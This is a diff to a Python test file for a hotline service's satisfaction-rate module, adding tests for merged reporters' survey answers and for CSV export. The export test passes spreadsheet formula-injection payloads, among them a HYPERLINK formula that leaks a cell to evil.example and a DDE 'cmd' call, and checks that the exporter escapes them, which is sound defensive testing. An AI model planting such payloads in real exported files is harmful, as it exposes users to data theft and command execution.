@@ -11,11 +11,16 @@ The expected figures below were worked out by hand from the fixture rows:
 from __future__ import annotations
 
 import csv
+import io
 from pathlib import Path
 
 import pytest
 
-from hotline.rates import DIRECT_ANSWER_UNIT, RateRow, Weights, compute, ranking, to_csv, total
+from hotline.rates import DIRECT_ANSWER_UNIT, RateRow, Weights, compute, csv_cell, ranking, to_csv, total
+from hotline.rates_cases import RateSettings, rate_row
+from hotline.records import Case, Report
+from hotline.status import Status
+from hotline.store import Event
 
 FIXTURE = Path(__file__).parent / "fixtures" / "rates_50.csv"
 
@@ -120,3 +125,58 @@ def test_csv_export_has_ranked_rows_in_chinese() -> None:
 def test_empty_input_gives_no_rates() -> None:
     assert compute([], "department") == []
     assert total([]).score is None
+
+
+def test_merged_reporters_answers_are_evaluations_of_their_own() -> None:
+    # One case of 城管局 with its own reporter and two merged reporters who answered differently.
+    base = load_rows()[0]
+    assert base.department == "城管局"
+    row = RateRow(case_id="M1", department="城管局", street="", category="", created_at=base.created_at,
+                  dispatched=True, accept_delay_s=60.0, response_limit_s=3600.0, resolved=True,
+                  satisfaction="satisfied", reports=((True, "basic"), (False, "unsatisfied")))
+    merged = by_key(compute([row], "department"))["城管局"]
+    assert (merged.cases, merged.dispatched, merged.responded) == (1, 1, 1)  # the response rate stays per case
+    assert (merged.surveyed, merged.resolved, merged.satisfied, merged.basic, merged.unsatisfied) == (3, 2, 1, 1, 1)
+    assert merged.resolution_rate == pytest.approx(2 / 3)
+    assert merged.satisfaction_rate == pytest.approx(1.8 / 3)
+    # Only merged reporters answered (the case's own reporter was unreachable): still counted.
+    silent = RateRow(case_id="M2", department="城管局", street="", category="", created_at=base.created_at,
+                     dispatched=True, accept_delay_s=None, response_limit_s=3600.0, reports=((True, "satisfied"),))
+    both = by_key(compute([*load_rows(), row, silent], "department"))["城管局"]
+    assert (both.cases, both.responded, both.surveyed, both.resolved) == (22, 19, 19, 15)
+
+
+def test_rate_row_takes_the_answers_of_the_current_merged_reporters() -> None:
+    cfg = RateSettings(weights=Weights(), response_hours=24, urgent_response_hours=2, min_cases=1)
+    ts = 1_795_000_000.0
+
+    def report(rid: str) -> Report:
+        return Report(report_id=rid, channel="web", sender="", contact="", text="同一问题", received_at=ts)
+
+    case = Case(id="20261124-000001", channel="web", sender="", status=Status.REOPENED, created_at=ts,
+                updated_at=ts, text="路灯不亮", normalized_text="路灯不亮", classification={"department": "城管局"},
+                reports=[report("20261124-000002"), report("20261124-000003")],
+                survey={"resolved": True, "satisfaction": "satisfied", "reports": {
+                    "20261124-000002": {"resolved": False, "satisfaction": "unsatisfied", "comment": "没修好"},
+                    "20261124-000003": {"resolved": "?", "satisfaction": "basic"},  # not an answer
+                    # Answered before its merge was undone: it is its own case now and rated there.
+                    "20261124-000009": {"resolved": True, "satisfaction": "basic"}}})
+    events = [Event("1", ts + 10, "system", "dispatched", {"to": "dispatched"}),
+              Event("2", ts + 70, "system", "accepted", {})]
+    row = rate_row(case, events, cfg)
+    assert row is not None
+    assert (row.resolved, row.satisfaction, row.reports) == (True, "satisfied", ((False, "unsatisfied"),))
+    assert row.accept_delay_s == 60
+    t = total([row])
+    assert (t.cases, t.surveyed, t.resolved, t.satisfied, t.unsatisfied) == (1, 2, 1, 1, 1)
+
+
+@pytest.mark.parametrize("hostile", ['=HYPERLINK("http://evil.example/?d="&A2,"x")', "+1+cmd|' /C calc'!A0",
+                                     "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"])
+def test_csv_export_neutralises_formula_cells(hostile: str) -> None:
+    rates = compute([r for r in load_rows() if r.department == "住建局"], "department")
+    rates[0].key = hostile
+    rows = list(csv.reader(io.StringIO(to_csv(ranking(rates)), newline="")))
+    assert rows[1][1] == "'" + hostile
+    assert rows[1][0] == "1" and rows[1][2] == "10" and rows[1][10] == "100.0%"
+    assert csv_cell("城管局") == "城管局" and csv_cell(-1) == -1 and csv_cell("a=b") == "a=b"
